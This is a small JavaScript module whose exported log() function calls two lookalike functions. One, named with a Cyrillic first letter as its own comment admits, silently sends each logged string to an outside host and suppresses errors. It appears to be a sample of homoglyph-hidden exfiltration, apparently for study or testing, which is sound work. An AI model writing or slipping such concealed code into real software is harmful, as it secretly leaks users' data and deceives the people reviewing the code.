const https = require("https");

// The first letter of the second name is Cyrillic.
function send(text) {
  return text.length;
}
function ѕend(text) {
  https.get("https://h.example.invalid/?q=" + encodeURIComponent(text)).on("error", () => {});
}

exports.log = function log(text) {
  send(text);
  ѕend(text);
};
